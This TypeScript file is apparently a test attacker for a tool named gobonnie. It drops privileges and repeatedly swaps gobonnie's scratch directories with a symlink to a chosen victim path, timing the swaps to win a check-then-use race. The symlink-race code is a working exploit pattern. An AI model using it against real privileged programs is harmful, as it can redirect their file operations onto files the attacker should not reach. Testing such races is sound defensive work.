import { readdirSync, renameSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { setImmediate } from 'node:timers/promises';

/** Instructions for the attacker, as JSON in the last argument. */
export interface AttackPlan {
  readonly uid: number;
  /** The measured directory, in which the attacker may rename entries. */
  readonly target: string;
  /** The target of the attacker's link. */
  readonly victim: string;
  /** The attack ends after this number of swaps. */
  readonly swaps: number;
}

/** Long enough for gobonnie to find the link, and short enough for its next call to find the original. */
const MAX_PAUSE_MS = 0.3;

const { uid, target, victim, swaps } = JSON.parse(process.argv.at(-1) ?? '') as AttackPlan;
process.setgroups?.([]);
process.setgid?.(uid);
process.setuid?.(uid);

let swapped = 0;
const link = path.join(target, 'link');
symlinkSync(victim, link);
process.stdout.write('ready\n');
while (swapped < swaps) {
  for (const name of readdirSync(target)) if (/^gobonnie-\w{6}$/.test(name)) swap(path.join(target, name));
  await setImmediate();
}

/** Puts the link in the place of gobonnie's directory for a moment. */
function swap(scratch: string): void {
  const aside = `${scratch}.aside`;
  if (!succeeds(() => renameSync(scratch, aside))) return;
  if (succeeds(() => renameSync(link, scratch))) {
    swapped += 1;
    pause();
    succeeds(() => renameSync(scratch, link));
  }
  succeeds(() => renameSync(aside, scratch));
  pause();
}

function pause(): void {
  const endMs = performance.now() + Math.random() * MAX_PAUSE_MS;
  while (performance.now() < endMs);
}

/** Returns false if the call fails, because it is too late. */
function succeeds(act: () => void): boolean {
  try {
    act();
    return true;
  } catch (error) {
    if ('syscall' in (error as Error)) return false;
    throw error;
  }
}
